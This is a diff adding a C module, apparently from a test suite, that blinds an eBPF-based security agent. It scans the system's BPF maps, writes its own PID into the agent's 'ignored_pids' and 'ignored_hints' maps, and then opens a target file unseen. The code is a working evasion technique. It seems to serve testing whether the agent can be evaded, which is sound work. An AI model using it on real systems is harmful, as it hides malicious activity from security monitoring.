@@ -1,0 +1,65 @@
+/* Turning away the agent itself. Root can; here it does so for no process but this one. */
+#define _GNU_SOURCE
+#include "evasion.h"
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+static int bpf(int command, union bpf_attr *attributes)
+{
+	return syscall(SYS_bpf, command, attributes, sizeof(*attributes));
+}
+
+static void set(int map, unsigned key, unsigned char value)
+{
+	union bpf_attr attributes = {.map_fd = map, .key = (unsigned long)&key, .value = (unsigned long)&value};
+
+	must("map", bpf(BPF_MAP_UPDATE_ELEM, &attributes));
+}
+
+/* Puts this process among those that are left out, if that is what the map says. */
+static int leave_out(int map)
+{
+	struct bpf_map_info info = {0};
+	union bpf_attr attributes = {.info = {.bpf_fd = map, .info_len = sizeof(info), .info = (unsigned long)&info}};
+
+	must("map", bpf(BPF_OBJ_GET_INFO_BY_FD, &attributes));
+	if (!strcmp(info.name, "ignored_hints"))
+		set(map, getpid() % info.max_entries, 1);
+	if (strcmp(info.name, "ignored_pids"))
+		return 0;
+	set(map, getpid(), 1);
+	return 1;
+}
+
+/* The agent keeps in a map whose calls it leaves out: its own. */
+static int read_left_out(int argc, char **argv)
+{
+	union bpf_attr attributes = {0};
+	unsigned id = 0, found = 0;
+	int map;
+
+	remember_target();
+	while (attributes.start_id = id, !bpf(BPF_MAP_GET_NEXT_ID, &attributes)) {
+		id = attributes.next_id;
+		memset(&attributes, 0, sizeof(attributes));
+		attributes.map_id = id;
+		map = bpf(BPF_MAP_GET_FD_BY_ID, &attributes);
+		memset(&attributes, 0, sizeof(attributes));
+		if (map < 0)
+			continue; /* gone meanwhile */
+		found += leave_out(map);
+		close(map);
+	}
+	if (errno != ENOENT || !found)
+		cannot("the agent's maps");
+	return must_be_target(open(TARGET, O_RDONLY));
+}
+
+const struct command agent_commands[] = {
+	{"read-left-out", 0, "", read_left_out},
+	{0},
+};
